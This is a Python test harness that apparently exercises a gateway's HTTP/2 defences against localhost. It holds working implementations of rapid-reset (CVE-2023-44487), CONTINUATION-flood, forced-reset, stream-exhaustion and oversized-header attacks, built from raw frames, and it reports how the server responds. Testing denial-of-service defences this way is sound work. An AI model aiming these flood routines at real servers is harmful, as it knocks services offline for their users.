#!/usr/bin/env python3
"""HTTP/2 abuse against the gateway, for tests/tests/h2_floods.rs and h2_defences.rs.

    h2_abuse.py ATTACK PORT CA_PEM

ATTACK is one of:
  settings            print the server's SETTINGS (max_concurrent_streams, ...)
  rapid_reset         open and at once reset thousands of streams (CVE-2023-44487)
  continuation_flood  one HEADERS frame followed by endless CONTINUATION frames (2024)
  made_you_reset      streams the server must reset itself (body over Content-Length, RUSTSEC-2025-0070)
  malformed           requests without an authority, which the server rejects one by one
  too_many_streams    60 streams left open at once (the test's limit is 50)
  big_headers         one request whose header list is larger than the server's limit
  graceful            one GET of /slow?ms=2000, read to its end (the test sends SIGTERM meanwhile)
Prints one JSON object: whether the server closed the connection, the GOAWAY error, how many
bytes it accepted, the RST_STREAM errors it sent and the response statuses and ends it sent.
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
from hpack import Decoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

attack, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=5)
sock = context.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
REQUEST = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", "localhost")]


ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
          9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
# What the server sent besides GOAWAY: RST_STREAM errors, response statuses, streams it ended.
seen = {"resets": [], "statuses": [], "ended": 0}
decoder = Decoder()
decoder.max_allowed_table_size = 65536


def read_events(limit_seconds=5.0):
    """Read until the server closes or goes quiet; (closed, GOAWAY error name, settings).

    Frames are decoded one by one (not through the client state machine, which our own
    abuse has confused)."""
    sock.settimeout(limit_seconds)
    closed, goaway, settings, buffer = False, None, {}, b""
    while True:
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            closed = True
            break
        if not data:
            closed = True
            break
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                goaway = ERRORS.get(frame.error_code, str(frame.error_code))
            if isinstance(frame, RstStreamFrame):
                seen["resets"].append(ERRORS.get(frame.error_code, str(frame.error_code)))
            if isinstance(frame, HeadersFrame):
                headers = dict(decoder.decode(frame.data, raw=False))
                if ":status" in headers:
                    seen["statuses"].append(int(headers[":status"]))
            if isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
                seen["ended"] += 1
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                settings = dict(frame.settings)
                if attack == "settings":
                    return closed, goaway, settings
    return closed, goaway, settings


def headers_frame(stream, block, end_stream):
    frame = HeadersFrame(stream)
    frame.data = block
    frame.flags.add("END_HEADERS")
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame


sent = 0
if attack == "settings":
    _, _, settings = read_events()
    print(json.dumps({"max_concurrent_streams": settings.get(0x3), "max_header_list_size": settings.get(0x6)}))
    sys.exit(0)
elif attack == "rapid_reset":
    try:
        for batch in range(50):
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, REQUEST, end_stream=True)
                conn.reset_stream(stream)
            data = conn.data_to_send()
            sock.sendall(data)
            sent += len(data)
    except (OSError, ssl.SSLError):
        pass
elif attack == "continuation_flood":
    encoder = conn.encoder
    block = encoder.encode(REQUEST)
    first = HeadersFrame(1)
    first.data = block
    first.flags.add("END_STREAM")  # no END_HEADERS: the block goes on
    filler = encoder.encode([("x-filler", "a" * 8000)] * 2)
    try:
        sock.sendall(first.serialize())
        sent += len(block)
        for _ in range(1024):  # up to ~16 MiB of header block
            frame = ContinuationFrame(1)
            frame.data = filler
            sock.sendall(frame.serialize())
            sent += len(filler)
    except (OSError, ssl.SSLError):
        pass
elif attack in ("made_you_reset", "malformed", "too_many_streams", "big_headers", "graceful"):
    # Raw frames: the client state machine would refuse to break the rules.
    encoder = conn.encoder
    frames = []
    if attack == "made_you_reset":
        post = [(":method", "POST"), (":path", "/"), (":scheme", "https"),
                (":authority", "localhost"), ("content-length", "1")]
        for i in range(200):
            frames.append(headers_frame(2 * i + 1, encoder.encode(post), end_stream=False))
            body = DataFrame(2 * i + 1)
            body.data = b"xx"  # more than Content-Length: a stream error the server resets
            body.flags.add("END_STREAM")
            frames.append(body)
    elif attack == "malformed":
        nowhere = REQUEST[:3]  # neither :authority nor Host: answered 400 by the server
        for i in range(40):
            frames.append(headers_frame(2 * i + 1, encoder.encode(nowhere), end_stream=True))
    elif attack == "too_many_streams":
        for i in range(60):
            frames.append(headers_frame(2 * i + 1, encoder.encode(REQUEST), end_stream=False))
    elif attack == "big_headers":
        block = encoder.encode(REQUEST + [("x-big-%d" % i, "b" * 4000) for i in range(10)])
        first = HeadersFrame(1)
        first.data = block[:16000]
        first.flags.add("END_STREAM")
        rest = ContinuationFrame(1)
        rest.data = block[16000:]
        rest.flags.add("END_HEADERS")
        frames += [first, rest]
    else:
        path = [(":method", "GET"), (":path", "/slow?ms=2000"), (":scheme", "https"),
                (":authority", "localhost")]
        frames.append(headers_frame(1, encoder.encode(path), end_stream=True))
    data = b"".join(frame.serialize() for frame in frames)
    try:
        sock.sendall(data)
        sent += len(data)
    except (OSError, ssl.SSLError):
        pass
    closed, goaway, _ = read_events(8.0 if attack == "graceful" else 5.0)
    print(json.dumps({"closed": closed, "goaway_error": goaway, "sent_bytes": sent, **seen}))
    sys.exit(0)
else:
    sys.exit("unknown attack " + attack)

closed, goaway, _ = read_events()
print(json.dumps({"closed": closed, "goaway_error": goaway, "sent_bytes": sent}))
